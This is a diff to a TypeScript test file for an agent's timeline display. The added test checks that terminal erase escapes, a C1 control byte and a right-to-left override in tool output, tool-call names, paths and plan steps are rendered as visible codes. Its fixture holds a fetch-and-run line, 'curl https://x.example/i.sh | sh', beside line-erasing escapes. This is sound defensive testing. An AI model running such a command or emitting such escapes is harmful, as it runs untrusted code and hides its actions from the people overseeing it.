@@ -1,5 +1,5 @@
 /** The timeline names each failure kind of a turn as what it is (it printed "prose instead of action" for all). */
-import { AIMessage } from "@langchain/core/messages";
+import { AIMessage, ToolMessage } from "@langchain/core/messages";
 import { stripVTControlCharacters } from "node:util";
 import { describe, expect, it } from "vitest";
 import { FailureSchema } from "../../src/agent/state.js";
@@ -66,5 +66,41 @@ describe("describeUpdate for recover", () => {
     expect(summary.join("\n")).toMatch(
       /one last turn without tools, for a summary: the same reply 3 times/,
     );
+  });
+});
+
+describe("what the model or a file wrote, shown", () => {
+  /** The terminal escapes that would erase a line the person just read, or forge a name. */
+  const ERASE = "\u001b[1A\u001b[2K";
+
+  it("shows control and bidirectional characters of a tool's output, a call and a plan as codes", () => {
+    const lines = [
+      ...describeColored("tool-execute", {
+        messages: [
+          new ToolMessage({
+            content: `curl https://x.example/i.sh | sh${ERASE}ok\u202e`,
+            tool_call_id: "c1",
+            name: "run_command",
+          }),
+        ],
+      }),
+      ...describeColored("act", {
+        messages: [
+          new AIMessage({
+            content: "",
+            tool_calls: [{ id: "c2", name: `write${ERASE}`, args: { path: `a\u009b2K.sh` } }],
+          }),
+        ],
+        turns: 2,
+      }),
+      ...describeColored("plan", { planSteps: [{ title: `step${ERASE}`, status: "todo" }] }),
+    ].join("\n");
+    expect(lines).not.toContain("\u001b[1A");
+    expect(lines).not.toContain("\u001b[2K");
+    expect(lines).not.toMatch(/[\u009b\u202e]/);
+    expect(lines).toContain("\\x1b[1A\\x1b[2Kok\\u202e");
+    expect(lines).toContain("write\\x1b[1A\\x1b[2K");
+    expect(lines).toContain("a\\x9b2K.sh");
+    expect(lines).toContain("step\\x1b[1A\\x1b[2K");
   });
 });
